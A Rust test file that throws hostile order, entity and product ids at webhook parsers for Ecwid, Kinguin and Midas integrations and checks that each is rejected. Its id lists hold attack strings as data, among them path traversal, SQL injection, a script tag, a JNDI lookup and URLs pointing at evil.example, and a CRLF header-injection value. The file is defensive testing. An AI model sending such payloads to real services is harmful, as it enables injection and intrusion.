//! Ids that would like to be paths, hosts, lists or commands. The shops have none of them.

use serde_json::Value;

use super::{Case, document, with, withstand};
use crate::support::formats::{Format, GAME, KEYS, OLD, POP, SHOP};

const NOT_FOUND: &[&str] = &["not_found"];
const MALFORMED: &[&str] = &["malformed"];

fn askable() -> Vec<String> {
    let ids = [
        "../orders",
        "../1004/orders/1207",
        "1207/../1208",
        "/1207",
        "1207/",
        "..\\1207",
        "...",
        "%2e%2e",
        "%2F..%2F",
        "%",
        "%zz",
        "1207?limit=100",
        "?",
        "1207#fragment",
        "#",
        "12 07",
        " 1207",
        "1207 ",
        " ",
        "+",
        "1207&ids=1208",
        "1207,1208",
        "1207/1208,1209",
        ",",
        "1207;drop",
        "1207=1208",
        "*",
        "1*",
        "'",
        "' OR '1'='1",
        "\"",
        "<script>alert(1)</script>",
        "{{1207}}",
        "${jndi:ldap://evil.example/a}",
        "//evil.example/",
        "http://evil.example/orders",
        "http:@evil.example",
        "1207@evil.example",
        "\\\\evil.example\\share",
        "Last",
        "LAST",
        "deleted ",
        "K1207/keys",
        "search",
        "0001207",
        "1207.0",
        "1.207e3",
        "+1207",
        "-1207",
        "0x4b7",
        "١٢٠٧",
        "é",
        "e\u{301}",
        "\u{202e}1207",
        "\u{200b}1207",
        "\u{ffff}",
        "\u{10ffff}",
        "null",
        "true",
        "[object Object]",
    ];
    ids.into_iter().map(str::to_owned).chain(["a".repeat(255), "é".repeat(127), "/".repeat(255)]).collect()
}

fn unaskable() -> Vec<String> {
    let ids = [
        ".",
        "..",
        "last",
        "deleted",
        "12\n07",
        "12\r\nHost: evil.example",
        "1207\0",
        "\u{7f}",
        "\u{85}",
        "\t",
    ];
    ids.into_iter()
        .map(str::to_owned)
        .chain(["a".repeat(256), "é".repeat(128), "9".repeat(100_000)])
        .collect()
}

/// A case for each id, in the body that `body` makes of it.
fn cases(format: Format, body: impl Fn(&str) -> String) -> Vec<Case> {
    let is_word =
        |id: &str| id.len() <= 64 && id.bytes().all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b));
    let is_kinguin = format.provider.starts_with("kinguin");
    // Kinguin's own ids are words; what is none is no order of its.
    let asked = askable().into_iter().map(|id| {
        let reasons = if is_kinguin && !is_word(&id) { MALFORMED } else { NOT_FOUND };
        (id, reasons)
    });
    let refused = unaskable().into_iter().map(|id| (id, MALFORMED));
    asked.chain(refused).map(|(id, reasons)| Case::new(format, body(&id), reasons)).collect()
}

#[test]
fn ecwid_ion_withstands_hostile_order_ids() {
    withstand(
        OLD,
        &cases(OLD, |id| {
            let encoded: String = form_urlencoded::byte_serialize(id.as_bytes()).collect();
            OLD.truth(1207).replace("order_id=1207", &format!("order_id={encoded}"))
        }),
    );
}

#[test]
fn ecwid_withstands_hostile_order_ids() {
    withstand(
        SHOP,
        &cases(SHOP, |id| {
            let mut whole = document(SHOP);
            whole["entityId"] = Value::from(499_999);
            whole["data"]["orderId"] = Value::from(id);
            whole.to_string()
        }),
    );
}

#[test]
fn ecwid_withstands_hostile_entity_ids_of_orders() {
    withstand(
        SHOP,
        &cases(SHOP, |id| {
            let mut whole = document(SHOP);
            whole["entityId"] = Value::from(id);
            whole["data"] = Value::Null;
            whole.to_string()
        }),
    );
}

#[test]
fn ecwid_withstands_hostile_entity_ids_of_deleted_orders() {
    withstand(
        SHOP,
        &cases(SHOP, |id| {
            let mut whole = document(SHOP);
            whole["eventType"] = Value::from("order.deleted");
            whole["entityId"] = Value::from(id);
            whole["data"] = Value::Null;
            whole.to_string()
        }),
    );
}

#[test]
fn ecwid_withstands_hostile_product_ids_which_are_numbers() {
    let ids = askable().into_iter().chain(unaskable());
    let cases = ["product.updated", "product.deleted"].into_iter().zip([(); 2].map(|()| ids.clone()));
    let cases: Vec<Case> = cases
        .flat_map(|(event, ids)| ids.map(move |id| (event, id)))
        .map(|(event, id)| {
            let mut whole = document(SHOP);
            whole["eventType"] = Value::from(event);
            whole["entityId"] = Value::from(id.as_str());
            whole["data"] = Value::Null;
            let is_number = id.bytes().all(|b| b.is_ascii_digit()) && id.len() <= 255;
            Case::new(SHOP, whole.to_string(), if is_number { NOT_FOUND } else { MALFORMED })
        })
        .collect();
    withstand(SHOP, &cases);
}

#[test]
fn kinguin_postback_withstands_hostile_order_ids() {
    withstand(POP, &cases(POP, |id| with(POP, "/orderId", id)));
}

#[test]
fn kinguin_withstands_hostile_order_ids() {
    withstand(KEYS, &cases(KEYS, |id| with(KEYS, "/orderId", id)));
}

#[test]
fn kinguin_withstands_hostile_external_ids() {
    let all = askable().into_iter().chain(unaskable());
    let cases = all.map(|id| Case::new(KEYS, with(KEYS, "/orderExternalId", id), &["mismatch", "malformed"]));
    withstand(KEYS, &cases.collect::<Vec<_>>());
}

#[test]
fn kinguin_postback_withstands_hostile_product_ids_which_are_numbers() {
    let all = askable().into_iter().chain(unaskable());
    let cases = all.map(|id| {
        let is_number = id.parse::<u64>().is_ok() && id.bytes().all(|b| b.is_ascii_digit());
        let mut whole = document(POP);
        whole.as_object_mut().unwrap().shift_remove("orderId");
        whole["kinguinId"] = Value::from(id);
        Case::new(POP, whole.to_string(), if is_number { &["unavailable"] } else { MALFORMED })
    });
    withstand(POP, &cases.collect::<Vec<_>>());
}

#[test]
fn midas_withstands_hostile_external_ids() {
    withstand(GAME, &cases(GAME, |id| with(GAME, "/transaction/external_id", id)));
}

#[test]
fn midas_withstands_hostile_ids_that_are_only_compared() {
    let mut cases = Vec::new();
    for place in ["/transaction/id", "/settings/merchant_id", "/settings/project_id"] {
        let reasons: &[&str] = if place == "/transaction/id" { &["mismatch"] } else { &["wrong_store"] };
        for id in askable().into_iter().chain(unaskable()) {
            cases.push(Case::new(GAME, with(GAME, place, id), reasons));
        }
    }
    withstand(GAME, &cases);
}
